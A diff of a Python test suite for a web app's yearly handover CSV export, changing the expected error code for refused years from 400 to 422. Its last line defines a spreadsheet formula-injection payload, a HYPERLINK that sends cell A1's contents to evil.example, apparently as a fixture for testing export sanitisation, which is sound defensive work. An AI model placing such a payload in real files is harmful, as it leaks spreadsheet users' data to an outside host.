@@ -162,7 +162,7 @@ def test_a_year_the_archive_cannot_serve_is_refused_naming_those_it_can(client, 
     auth.login(world["admin"].email)
     client.get("/lang/en")
     response = client.get(f"/trace/handovers.csv?year={year}")
-    assert response.status_code == 400 and response.mimetype == "text/html"
+    assert response.status_code == 422 and response.mimetype == "text/html"
     assert "Content-Disposition" not in response.headers
     page = response.get_data(as_text=True)
     # NOW is in 2026, and so is every handover of world: one year, not "from 2026 to 2026"
@@ -191,7 +191,7 @@ def test_the_archive_offers_and_serves_every_year_with_handovers_and_no_other(cl
     rows = list(csv.DictReader(io.StringIO(served.get_data(as_text=True).lstrip("\ufeff"))))
     assert served.status_code == 200 and [r["pack_code"] for r in rows] == [old.code]
     refused = client.get("/trace/handovers.csv?year=2011")
-    assert refused.status_code == 400 and "Content-Disposition" not in refused.headers
+    assert refused.status_code == 422 and "Content-Disposition" not in refused.headers
     assert "from 2012 to 2026" in refused.get_data(as_text=True)
 
 
@@ -204,7 +204,7 @@ def test_without_any_handover_the_archive_says_so_and_offers_no_file(client, aut
     assert '<select name="year">' not in page  # no empty file offered
     assert "No handover on record in 2026: there is no file to download." in page
     assert client.get("/trace/handovers.csv?year=2026").status_code == 200  # its header alone
-    assert client.get("/trace/handovers.csv?year=2025").status_code == 400
+    assert client.get("/trace/handovers.csv?year=2025").status_code == 422
 
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
